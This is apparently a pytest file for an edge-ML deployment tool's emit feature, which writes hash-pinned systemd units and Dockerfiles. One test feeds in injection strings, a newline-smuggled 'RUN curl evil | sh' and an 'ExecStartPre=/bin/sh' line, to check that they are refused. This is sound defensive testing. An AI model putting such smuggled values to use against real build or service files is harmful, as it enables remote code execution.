"""What --emit writes: whole, pinned by one hash, startable by its own lines, refused where it cannot be."""

from __future__ import annotations

import hashlib
import json
import re
import shlex
from pathlib import Path

import numpy as np
import pytest
from edgeml.artifact.bundle import open_bundle
from edgeml.artifact.manifest import EngineEntry
from edgeml.deploy.base_image import base_image
from edgeml.deploy.emit import emit, output_folder
from edgeml.deploy.record import DeviceRecord
from edgeml.errors import InputError
from safetensors.numpy import save


@pytest.fixture
def bundle(tmp_path, make_bundle, int8_onnx, images):
    shapes = {"x": [1, 3, 16, 16]}
    engines = [
        EngineEntry(
            id=f"{runtime}-int8",
            runtime=runtime,
            precision="int8",
            execution="fp16" if runtime == "tensorrt" else "fp32",
            files=["model.int8.onnx"],
            input_shapes=shapes,
        )
        for runtime in ("onnxruntime", "tensorrt")
    ]
    tensors = {f"{i:03}.input.x": image[None] for i, image in enumerate(images)}
    tensors |= {f"{i:03}.output.y": np.zeros((1, 4), np.float32) for i in range(len(images))}
    root = make_bundle(
        tmp_path / "my bundle (v2)",
        engines=engines,
        shipped="onnxruntime-int8",
        files={
            "model.int8.onnx": int8_onnx.read_bytes(),
            "reference.safetensors": save(tensors),
            "preprocess.json": b"{}",
        },
        reference_files=["reference.safetensors"],
    )
    return open_bundle(root)


def record(bundle, chosen="onnxruntime-int8", runtime="onnxruntime", **facts) -> DeviceRecord:
    return DeviceRecord(
        device="orin 1",
        address="jetson@orin1",
        bundle=bundle.hash,
        recipe="",
        chosen=chosen,
        runtime=runtime,
        facts=facts,
    )


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_unit_pins_the_bundle_by_one_hash(bundle):
    out = emit(record(bundle), bundle, "systemd")
    assert out.name == "my bundle (v2)-orin-1-systemd"
    assert {p.name for p in out.iterdir()} == {
        "README.txt", "client.py", "edgeml-agent.pyz", "edgeml-my-bundle-v2.service", "engine.json",
        "model.int8.onnx", "preprocess.json",
    }  # fmt: skip
    unit = (out / "edgeml-my-bundle-v2.service").read_text()
    (start,) = re.findall(r"^ExecStart=(.*)$", unit, re.M)
    words = shlex.split(start)
    assert words[words.index("--sha256") + 1] == sha256(out / "engine.json")
    spec = json.loads((out / "engine.json").read_text())
    assert spec["bundle"] == bundle.hash and bundle.hash in unit
    assert spec["files"] == {"model.int8.onnx": sha256(out / "model.int8.onnx")}
    assert spec["shapes"] == {"x": [1, 3, 16, 16]}
    readme = (out / "README.txt").read_text()
    assert "systemctl --user enable --now edgeml-my-bundle-v2" in readme and "x 1×3×16×16" in readme


def test_a_dockerfile_has_the_devices_image_and_an_exec_command(bundle):
    cpu = emit(record(bundle, onnxruntime="1.22.1"), bundle, "dockerfile")
    text = (cpu / "Dockerfile").read_text()
    assert "FROM python:" in text and "onnxruntime==1.22.1" in text
    command = json.loads(re.search(r"^CMD (.*)$", text, re.M)[1])
    assert command[command.index("--sha256") + 1] == sha256(cpu / "engine.json")
    made = record(bundle, "tensorrt-int8", "tensorrt", jetpack="6.2.1")
    made.device = "orin2"
    jetson = emit(made, bundle, "dockerfile")
    text = (jetson / "Dockerfile").read_text()
    assert "FROM nvcr.io/nvidia/l4t-jetpack:r36.4.0" in text and "# Base image: https://" in text
    assert "--runtime nvidia" in (jetson / "README.txt").read_text()


@pytest.mark.parametrize("kind", ["systemd", "dockerfile"])
def test_words_of_a_device_or_bundle_write_no_line_of_their_own(bundle, kind):
    hostile = "1.22\nRUN curl evil | sh"
    with pytest.raises(InputError, match="no name of an engine or version"):
        emit(record(bundle, onnxruntime=hostile), bundle, kind)
    with pytest.raises(InputError, match="no name of an engine or version"):
        emit(record(bundle, chosen="a\nExecStartPre=/bin/sh"), bundle, kind)


def test_what_cannot_be_emitted_is_one_line(bundle):
    with pytest.raises(InputError, match="did you mean systemd"):
        emit(record(bundle), bundle, "system")
    with pytest.raises(InputError, match="no engine was chosen"):
        emit(record(bundle, chosen=None), bundle, "systemd")
    with pytest.raises(
        InputError, match=r"no base image is known for JetPack 7\.2.*--emit systemd"
    ):
        emit(record(bundle, "tensorrt-int8", "tensorrt", jetpack="7.2"), bundle, "dockerfile")
    with pytest.raises(InputError, match="of this device"):
        base_image(None)
    out = emit(record(bundle), bundle, "systemd")
    with pytest.raises(InputError, match="exists; remove it first"):
        output_folder(bundle.root, "orin 1", "systemd")
    assert not list(out.parent.glob("*.part"))


def test_one_name_is_one_engine_where_a_bundle_has_two_forms_of_it(bundle):
    from edgeml.deploy.package import pack

    ids = [candidate.id for candidate in pack(bundle).candidates]
    assert sorted(ids) == sorted(set(ids))
